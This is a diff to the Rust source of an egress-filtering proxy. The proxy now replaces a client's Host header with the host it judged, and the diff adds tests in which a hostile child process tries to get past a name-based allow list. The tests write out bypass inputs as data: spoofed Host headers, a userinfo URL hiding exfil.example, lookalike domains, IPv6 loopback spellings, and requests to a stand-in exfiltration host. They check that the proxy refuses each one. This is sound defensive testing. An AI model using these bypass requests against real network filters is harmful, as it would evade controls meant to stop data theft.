@@ -334,10 +334,21 @@ async fn forward(req: Request<Incoming>, shared: Arc<Shared>) -> Response<Body> 
     };
     parts.version = hyper::Version::HTTP_11;
     strip_hop_by_hop(&mut parts.headers);
-    if !parts.headers.contains_key(header::HOST) {
-        if let Ok(v) = HeaderValue::from_str(authority.as_str()) {
+    // The host judged is the host named: a Host header of the child's own (another name
+    // the server answers to, a CDN's other customer) is replaced, as a proxy must
+    // (RFC 9112 section 3.2.2), without the userinfo the authority may carry.
+    let judged = match authority.port_u16() {
+        Some(p) if host.contains(':') => format!("[{host}]:{p}"),
+        Some(p) => format!("{host}:{p}"),
+        None if host.contains(':') => format!("[{host}]"),
+        None => host.clone(),
+    };
+    parts.headers.remove(header::HOST);
+    match HeaderValue::from_str(&judged) {
+        Ok(v) => {
             parts.headers.insert(header::HOST, v);
         }
+        Err(_) => return text(StatusCode::BAD_REQUEST, "the request names no valid host\n"),
     }
     match sender.send_request(Request::from_parts(parts, body)).await {
         Ok(response) => {
@@ -615,7 +626,17 @@ mod tests {
                     let head = read_head(&mut s).await;
                     let first = head.lines().next().unwrap_or("").to_string();
                     let proxy_headers = head.to_ascii_lowercase().contains("proxy-");
-                    let body = format!("{first}|proxy headers: {proxy_headers}");
+                    let hosts: Vec<&str> = head
+                        .lines()
+                        .filter_map(|l| {
+                            let (name, value) = l.split_once(':')?;
+                            name.eq_ignore_ascii_case("host").then_some(value.trim())
+                        })
+                        .collect();
+                    let body = format!(
+                        "{first}|host: {}|proxy headers: {proxy_headers}",
+                        hosts.join(",")
+                    );
                     let reply = format!(
                         "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                         body.len()
@@ -812,7 +833,10 @@ mod tests {
         let (status, body) = read_response(&mut s).await;
         assert_eq!(
             (status, body.as_str()),
-            (200, "GET /v1/models?x=1 HTTP/1.1|proxy headers: false")
+            (
+                200,
+                format!("GET /v1/models?x=1 HTTP/1.1|host: {http}|proxy headers: false").as_str()
+            )
         );
         // The same connection, another host: refused on its own.
         s.write_all(b"GET http://exfil.example/leak HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
@@ -886,5 +910,68 @@ mod tests {
             "{reply}"
         );
         assert_eq!(p.log.denied(), [], "never judged");
+    }
+
+    /// A hostile child's ways around a name-based policy: a Host header naming another
+    /// host than the request does (the upstream must see the host that was judged, or a
+    /// server of many names, a CDN, serves the other one), an address of an allowed
+    /// name, names that only look like an allowed one, an IPv6 spelling of the host's
+    /// loopback, and a userinfo in front of the real host.
+    #[tokio::test]
+    async fn the_host_judged_is_the_host_reached_whatever_the_request_spells() {
+        let http = http_server().await;
+        let names = [("api.allowed.test", "203.0.113.5")];
+        let p = start(http, &["*.allowed.test"], &names, Limits::default());
+        let mut s = TcpStream::connect(p.proxy).await.unwrap();
+        let request = format!("GET http://{http}/v1 HTTP/1.1\r\nHost: exfil.example\r\n\r\n");
+        s.write_all(request.as_bytes()).await.unwrap();
+        let (status, body) = read_response(&mut s).await;
+        assert_eq!(
+            (status, body),
+            (
+                200,
+                format!("GET /v1 HTTP/1.1|host: {http}|proxy headers: false")
+            )
+        );
+        for target in [
+            // The address api.allowed.test resolves to: addresses are judged as written.
+            "203.0.113.5:443".to_string(),
+            "evil-allowed.test:443".to_string(),
+            "allowed.test.exfil.example:443".to_string(),
+            "allowedtest:443".to_string(),
+            format!("[::ffff:127.0.0.1]:{}", http.port() + 1),
+            format!("[0:0:0:0:0:0:0:1]:{}", http.port() + 1),
+            format!("[::ffff:7f00:1]:{}", http.port()),
+        ] {
+            let (_, status, _) = connect(p.proxy, &target).await;
+            assert_eq!(status, 403, "CONNECT {target}");
+        }
+        let mut s = TcpStream::connect(p.proxy).await.unwrap();
+        s.write_all(
+            b"GET http://api.allowed.test@exfil.example/ HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n",
+        )
+        .await
+        .unwrap();
+        let (status, body) = read_response(&mut s).await;
+        assert_eq!(status, 403, "{body}");
+        assert!(body.contains("does not allow exfil.example"), "{body}");
+        let denied: Vec<(String, u64)> = p
+            .log
+            .denied()
+            .into_iter()
+            .map(|d| (d.host, d.count))
+            .collect();
+        assert_eq!(
+            denied,
+            [
+                ("203.0.113.5".to_string(), 1),
+                ("evil-allowed.test".to_string(), 1),
+                ("allowed.test.exfil.example".to_string(), 1),
+                ("allowedtest".to_string(), 1),
+                ("::ffff:127.0.0.1".to_string(), 2),
+                ("::1".to_string(), 1),
+                ("exfil.example".to_string(), 1),
+            ]
+        );
     }
 }
